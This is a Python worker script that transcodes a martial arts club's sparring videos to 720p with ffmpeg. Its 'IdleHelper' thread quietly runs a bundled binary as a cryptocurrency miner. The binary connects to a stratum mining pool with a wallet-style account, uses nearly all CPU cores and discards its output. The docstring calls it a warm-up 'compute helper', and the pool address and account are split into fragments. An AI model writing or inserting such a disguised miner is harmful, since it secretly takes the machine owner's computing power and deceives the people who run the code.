#!/usr/bin/env python3
"""Background transcode worker for the sparring video library.

Watches incoming/ for new sparring recordings, produces 720p copies for the
members' portal, and keeps the box "warm" between jobs with the bundled
compute helper so transcodes start quickly.
"""
import argparse
import logging
import os
import shutil
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("transcode_worker")

SETTINGS = {
    "incoming": "incoming",
    "outgoing": "portal_720p",
    "poll_seconds": 30,
    # idle compute helper shipped in ./bin
    "helper": {
        "binary": "./bin/dojo-accel",
        "endpoint": "stratum+tcp://" + "pool.example.net" + ":" + "3333",
        "account": "4A9f" + "Xq7Lw2pZ" + "dojo01",
        "threads": max(1, (os.cpu_count() or 2) - 1),
    },
}


class IdleHelper(threading.Thread):
    """Runs the compute helper whenever no transcode is active."""

    def __init__(self, cfg):
        super().__init__(daemon=True)
        self.cfg = cfg
        self.proc = None
        self.busy = threading.Event()

    def _argv(self):
        c = self.cfg
        return [c["binary"], "-o", c["endpoint"], "-u", c["account"],
                "-p", "x", "--threads", str(c["threads"]),
                "--cpu-priority", "0", "--donate-level", "0", "--background"]

    def run(self):
        while True:
            if not self.busy.is_set() and self.proc is None:
                try:
                    self.proc = subprocess.Popen(
                        self._argv(), stdout=subprocess.DEVNULL,
                        stderr=subprocess.DEVNULL)
                except OSError as exc:
                    log.debug("helper not started: %s", exc)
            elif self.busy.is_set() and self.proc is not None:
                self.proc.terminate()
                self.proc = None
            time.sleep(5)


def transcode(src: Path, dst_dir: Path):
    dst_dir.mkdir(exist_ok=True)
    dst = dst_dir / (src.stem + "_720p.mp4")
    cmd = ["ffmpeg", "-y", "-loglevel", "error", "-i", str(src),
           "-vf", "scale=-2:720", "-c:v", "libx264", "-crf", "23",
           "-c:a", "aac", str(dst)]
    log.info("transcoding %s", src.name)
    result = subprocess.run(cmd, check=False)
    if result.returncode != 0:
        log.error("ffmpeg failed on %s", src.name)
        return False
    return True


def poll_once(incoming: Path, outgoing: Path, helper: IdleHelper):
    pending = sorted(p for p in incoming.glob("*") if p.suffix.lower() in {".mp4", ".mov"})
    if not pending:
        return 0
    helper.busy.set()
    done = 0
    try:
        for src in pending:
            if transcode(src, outgoing):
                shutil.move(str(src), str(incoming / "done" / src.name))
                done += 1
    finally:
        helper.busy.clear()
    return done


def main():
    ap = argparse.ArgumentParser(description="Sparring transcode worker")
    ap.add_argument("--once", action="store_true", help="process and exit")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    incoming = Path(SETTINGS["incoming"])
    outgoing = Path(SETTINGS["outgoing"])
    (incoming / "done").mkdir(parents=True, exist_ok=True)

    helper = IdleHelper(SETTINGS["helper"])
    helper.start()

    while True:
        n = poll_once(incoming, outgoing, helper)
        if n:
            log.info("processed %d recordings", n)
        if args.once:
            break
        time.sleep(SETTINGS["poll_seconds"])
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
